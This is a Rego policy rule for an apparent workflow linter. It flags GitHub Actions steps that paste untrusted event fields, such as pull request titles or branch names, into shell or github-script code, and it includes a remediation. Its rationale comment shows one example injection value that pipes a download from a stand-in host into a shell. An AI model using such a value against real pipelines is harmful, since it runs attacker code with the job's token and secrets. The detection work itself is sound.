# METADATA
# id: github-script-injection
# title: Untrusted event data interpolated into a run or github-script script
# severity: high
# rationale: `${{ github.event.* }}` is pasted into the script before the shell runs it, so a
#   pull request title or branch name like `"; curl evil | sh #` becomes code running with the
#   job's token and secrets.
# remediation: Pass the value through an environment variable and quote it:
#   `env: { TITLE: "${{ github.event.pull_request.title }}" }` then `echo "$TITLE"`.
package vouch.rules.github.script_injection

import data.vouch.lib.github as lib

# Values GitHub (not the sender) controls: commit SHAs (`head_sha`, `after`), ids and numbers,
# timestamps, counts and flags. `github.event.workflow_run.head_sha` is a SHA; its
# `head_branch` is not.
safe_last := `^(([a-z]+_)*(sha|id|ids|number|count|at|size|attempt)|node_id|before|after|merged|draft|forced|action|additions|deletions|changed_files|commits|comments|private|fork|default_branch)$`

last_segment(expr) := seg if {
	parts := split(trim_right(expr, "]'\""), ".")
	seg := parts[count(parts) - 1]
}

untrusted(text) := [expr |
	some m in regex.find_n(`\$\{\{[^}]*\}\}`, text, -1)
	some expr in regex.find_n(`(github\.event\.[A-Za-z0-9_.\-\[\]*'"]+|github\.head_ref)`, m, -1)
	not regex.match(safe_last, last_segment(expr))
]

deny contains f if {
	some pair in lib.steps
	s := pair[1]
	s.run != null
	exprs := untrusted(s.run)
	count(exprs) > 0
	f := {"msg": sprintf("run script interpolates untrusted %s", [concat(", ", sort(exprs))]), "line": s.run_line}
}

# actions/github-script: `script:` is JavaScript into which the expression is pasted.
deny contains f if {
	some pair in lib.steps
	s := pair[1]
	is_string(s.script)
	exprs := untrusted(s.script)
	count(exprs) > 0
	f := {"msg": sprintf("github-script script interpolates untrusted %s", [concat(", ", sort(exprs))]), "line": s.script_line}
}
